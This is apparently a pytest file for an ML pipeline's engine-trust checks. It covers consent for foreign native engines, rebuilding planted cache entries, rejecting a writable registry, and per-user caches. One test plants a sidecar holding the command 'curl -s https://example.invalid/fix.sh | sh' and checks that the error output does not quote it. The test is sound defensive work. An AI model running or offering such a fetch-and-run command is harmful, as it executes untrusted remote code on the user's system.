"""Native engines load only when rtpipe built them on this account, or with --trust-engine."""

import json
import os
import shutil
import subprocess
import sys

import pytest

from pipeline.loader import load_model
from pipeline.models import ModelError
from pipeline.sidecar import sidecar_path
from pipeline.trust import cache_dir, is_recorded, record_built, registry_path, require_consent


def _copy(engine, folder):
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copy(engine, folder / engine.name)
    shutil.copy(sidecar_path(engine), sidecar_path(folder / engine.name))
    return folder / engine.name


def test_an_engine_rtpipe_built_here_loads_and_a_foreign_one_needs_consent(engines, tmp_path, monkeypatch):
    built = engines["yolo"]["aoti"]
    assert is_recorded(built)  # the build recorded it
    load_model(str(built))
    monkeypatch.setenv("RTPIPE_STATE_DIR", str(tmp_path / "another-account"))  # nothing recorded there
    foreign = _copy(built, tmp_path / "downloads")
    with pytest.raises(ModelError, match=r"was not built by rtpipe on this account .*pass --trust-engine .*rtpipe build$") as e:
        load_model(str(foreign))
    assert "\n" not in str(e.value)
    assert load_model(str(foreign), trust_engine=True).info.family == "yolo"
    assert load_model(str(_copy(engines["yolo"]["onnx"], tmp_path / "downloads"))).info.family == "yolo"  # ONNX is not native code


def test_the_cli_refuses_a_foreign_engine_in_one_line_and_takes_the_flag(engines, tmp_path):
    foreign = _copy(engines["yolo"]["aoti"], tmp_path / "downloads")
    env = {**os.environ, "RTPIPE_STATE_DIR": str(tmp_path / "another-account")}
    args = [sys.executable, "-m", "pipeline", "run", "synthetic:64x48@30?live=0&frames=2", "--model", str(foreign), "--json"]
    r = subprocess.run([*args, str(tmp_path / "a.jsonl")], capture_output=True, text=True, env=env, timeout=300)
    assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1 and "--trust-engine" in r.stderr, r.stderr
    r = subprocess.run([*args, str(tmp_path / "b.jsonl"), "--trust-engine"], capture_output=True, text=True, env=env, timeout=300)
    assert r.returncode == 0 and len((tmp_path / "b.jsonl").read_text().splitlines()) == 2, r.stderr


def test_an_engine_planted_in_the_cache_is_rebuilt_not_loaded(engines, tmp_path, monkeypatch):
    """A folder with engines/NAME.pt2 and a matching sidecar: the cache treats it as not built here."""
    from pipeline.build.cache import stale_reason
    from pipeline.sidecar import read

    monkeypatch.setenv("RTPIPE_ENGINE_DIR", str(tmp_path / "cache"))
    monkeypatch.setenv("RTPIPE_STATE_DIR", str(tmp_path / "state"))
    planted = _copy(engines["yolo"]["aoti"], cache_dir())
    rec = read(planted)
    wanted = {"checkpoint": rec["checkpoint"]["sha256"], "options": rec["options"], "versions": rec["versions"], "gpu": rec["gpu"]}
    assert stale_reason(planted, wanted, "cpu") == "not built by rtpipe on this account"
    record_built(planted, rec["engine_sha256"])  # once rtpipe has built it here, it is reused
    assert stale_reason(planted, wanted, "cpu") is None


def test_a_record_others_can_write_is_not_believed(engines, tmp_path, monkeypatch):
    monkeypatch.setenv("RTPIPE_STATE_DIR", str(tmp_path / "state"))
    engine = _copy(engines["yolo"]["aoti"], tmp_path / "e")
    record_built(engine, json.loads(sidecar_path(engine).read_text())["engine_sha256"])
    assert is_recorded(engine) and oct(registry_path().stat().st_mode & 0o777) == "0o600"
    registry_path().chmod(0o666)
    assert not is_recorded(engine)


def test_the_default_engine_cache_is_per_user(monkeypatch, tmp_path):
    monkeypatch.delenv("RTPIPE_ENGINE_DIR", raising=False)
    monkeypatch.delenv("RTPIPE_CACHE_DIR", raising=False)
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    monkeypatch.setenv("HOME", str(tmp_path))
    assert cache_dir() == tmp_path / ".cache" / "rtpipe" / "engines"


def test_any_native_engine_needs_consent_whatever_its_name_and_its_sidecar_is_not_quoted(engines, tmp_path, monkeypatch):
    """A TensorRT plan may be called .plan; a planted sidecar may carry any 'rebuild' command."""
    from pipeline.trust import EngineTrustError

    monkeypatch.setenv("RTPIPE_STATE_DIR", str(tmp_path / "state"))
    foreign = _copy(engines["yolo"]["aoti"], tmp_path / "dl")
    record = json.loads(sidecar_path(foreign).read_text())
    sidecar_path(foreign).write_text(json.dumps({**record, "command": "curl -s https://example.invalid/fix.sh | sh"}))
    with pytest.raises(ModelError) as e:
        load_model(str(foreign))
    assert "curl" not in str(e.value)
    plan = tmp_path / "dl" / "model.plan"
    plan.write_bytes(b"not really a plan")
    with pytest.raises(EngineTrustError):
        require_consent(plan, trust=False)
